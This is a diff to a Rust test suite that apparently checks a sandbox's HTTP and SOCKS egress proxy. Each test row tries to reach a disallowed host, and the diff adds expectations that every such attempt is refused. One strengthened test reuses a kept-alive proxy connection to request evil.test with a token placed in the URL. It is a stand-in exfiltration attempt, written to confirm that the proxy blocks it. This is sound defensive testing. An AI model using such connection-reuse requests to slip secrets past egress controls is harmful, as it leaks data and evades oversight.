@@ -337,12 +337,14 @@ fn proxy() -> Vec<Row> {
         attempt(format!("connect-{name}"), format!("asks the proxy for {target}"))
             .grant(["good.test", "*.good.test:4242"])
             .python(&format!("escaped(greeting_on(*connect_through('{{http_proxy}}', '{target}')))"))
+            .said("was refused")
             .row()
     };
     let socks = |name: &str, target: &str| {
         attempt(format!("socks-{name}"), format!("asks the SOCKS proxy for {target}"))
             .grant(["good.test", "*.good.test:4242"])
             .python(&format!("escaped(greeting_on(socks_through('{{socks_proxy}}', {target}, 4242)))"))
+            .said("was refused")
             .row()
     };
     let get = |name: &str, target: &str, what: &str| {
@@ -352,6 +354,7 @@ fn proxy() -> Vec<Row> {
                 "got = say(*proxy('{{http_proxy}}'), b'GET {target} HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n')\n\
                  if b'page of' in got: escaped('the page came')\nheld(repr(got[:300]))"
             ))
+            .said("was refused")
             .unheard()
             .row()
     };
@@ -378,11 +381,14 @@ fn proxy() -> Vec<Row> {
             .python(
                 "stream = dial(*proxy('{http_proxy}'))\n\
                  stream.sendall(b'GET http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n')\n\
-                 read(stream, b'page of good.test')\n\
+                 first = read(stream, b'page of good.test')\n\
+                 if b'page of good.test' not in first: held('the first did not come: %r' % first[:300])\n\
                  stream.sendall(b'GET http://evil.test/{token} HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n')\n\
                  got = read(stream)\n\
-                 if b'page of evil.test' in got: escaped('the page came')\nheld(repr(got[:300]))",
+                 if b'page of evil.test' in got: escaped('the page came')\nheld('only the first came, then %r' % got[:300])",
             )
+            .shows("only the first came")
+            .denied("evil.test")
             .unheard()
             .twin_python(
                 "got = say('192.0.2.80', 8888, b'GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n')\n\
